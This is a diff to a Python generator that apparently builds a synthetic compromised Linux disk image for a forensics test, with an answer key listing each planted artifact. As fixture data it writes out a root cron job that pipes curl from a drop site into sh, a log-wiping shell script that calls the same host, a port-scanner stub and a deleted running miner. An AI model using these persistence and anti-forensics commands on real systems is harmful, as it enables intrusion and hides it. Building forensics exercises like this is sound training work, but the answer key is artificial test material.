@@ -72,6 +72,8 @@ WantedBy=timers.target
 SCANNER = f"#!/usr/bin/perl\n# tcp sweep\nuse IO::Socket;\nmy $c2 = '{story.DROP_SITE}';\n" + "".join(
     f"push @ports, {port};\n" for port in range(20, 420))
 
+WIPER = f"#!/bin/sh\n# wiper\n: > /var/log/btmp\ncurl http://{story.DROP_SITE}/ok\n"
+
 
 def strike(root: Tree, data: Tree, key: AnswerKey) -> None:
     """Plant everything, and note each artifact in the answer key."""
@@ -127,7 +129,8 @@ def _miner(root: Tree, key: AnswerKey) -> None:
 def _persistence(root: Tree, key: AnswerKey) -> None:
     when = story.PERSISTED
     root.file(story.PRELOAD, story.HIDER + "\n", m=when - 60 * SECOND)
-    root.file(story.CRON_ENTRY, f"*/10 * * * * root curl -fsSL http://{story.DROP_SITE}/d/inst.sh | sh >/dev/null 2>&1\n",
+    root.file(story.CRON_ENTRY,
+              f"*/10 * * * * root curl -fsSL http://{story.DROP_SITE}/d/inst.sh | sh >/dev/null 2>&1\n",
               m=when - 30 * SECOND)
     root.file(story.MINER_UNIT, UNIT, m=when)
     root.file(story.MINER_TIMER, TIMER, m=when)
@@ -142,7 +145,7 @@ def _persistence(root: Tree, key: AnswerKey) -> None:
 
 
 def _deleted(root: Tree, key: AnswerKey) -> None:
-    folder = story.DROPPER_PATH.rpartition("/")[0]
+    folder = story.DROP_FOLDER
     root.folder(folder, mode=0o1777, b=story.DROPPER)
     kit = gzip.compress(random.Random("kit").randbytes(300_000), mtime=0)  # noqa: S311 - filling
     root.file(story.DROPPER_PATH, malware.DROPPER, m=story.DROPPER, mode=0o755)
@@ -153,22 +156,21 @@ def _deleted(root: Tree, key: AnswerKey) -> None:
     root.delete(story.ARCHIVE_PATH, story.MINER + 29 * SECOND, "wiped")
     root.delete(f"{folder}/scan.pl", story.ROOT_SHELL - 5 * SECOND)
     key.planted("deleted_file", ROOT, story.DROPPER_PATH, "deleted", note="the dropper: name and content",
-                at=story.DROPPER, contains="libprocesshider")
+                at=story.DROPPER, content=malware.DROPPER.encode())
     key.planted("deleted_file", ROOT, f"{folder}/scan.pl", "deleted", note="a port scanner: name and content",
-                contains="tcp sweep")
-    key.planted("deleted_file", ROOT, story.ARCHIVE_PATH, "timeline", note="the kit: its name is left, its content is not")
+                content=SCANNER.encode())
+    key.planted("deleted_file", ROOT, story.ARCHIVE_PATH, "timeline", note="the kit: only its name is left")
     # Its place in the folder was taken by a session file, so only the inode is left.
     root.folder("/var/lib/php/sessions", mode=0o1733, b=story.INSTALLED)
-    root.file("/var/lib/php/sessions/sess_k1", f"#!/bin/sh\n# wiper\n: > /var/log/btmp\ncurl http://{story.DROP_SITE}/ok\n",
-              m=story.LEFT - 50 * SECOND, uid=0)
+    root.file("/var/lib/php/sessions/sess_k1", WIPER, m=story.LEFT - 50 * SECOND, uid=0)
     root.file("/var/lib/php/sessions/sess_q7", "cart|a:0:{}", m=story.LEFT + 3000 * SECOND, mode=0o600, uid=33, gid=33,
               late=True)
     root.delete("/var/lib/php/sessions/sess_k1", story.LEFT - 40 * SECOND, "nameless")
-    key.planted("deleted_file", ROOT, "", "deleted", note="a script whose name is gone", contains="# wiper")
+    key.planted("deleted_file", ROOT, "", "deleted", note="a script whose name is gone", content=WIPER.encode())
     # A second miner process still runs from a file that is deleted.
-    root.file("/var/tmp/.ICE-unix/xmrig", malware.miner()[:900_000], m=story.MINER - 6 * SECOND, mode=0o755)
-    root.delete("/var/tmp/.ICE-unix/xmrig", story.MINER + 31 * SECOND, "open")
-    key.planted("deleted_file", ROOT, "/var/tmp/.ICE-unix/xmrig", "deleted", required=False,
+    root.file(story.RUNNING_PATH, malware.miner()[:900_000], m=story.MINER - 6 * SECOND, mode=0o755)
+    root.delete(story.RUNNING_PATH, story.MINER + 31 * SECOND, "open")
+    key.planted("deleted_file", ROOT, story.RUNNING_PATH, "deleted", required=False,
                 note="deleted while it runs: inode and content are still allocated")
 
 
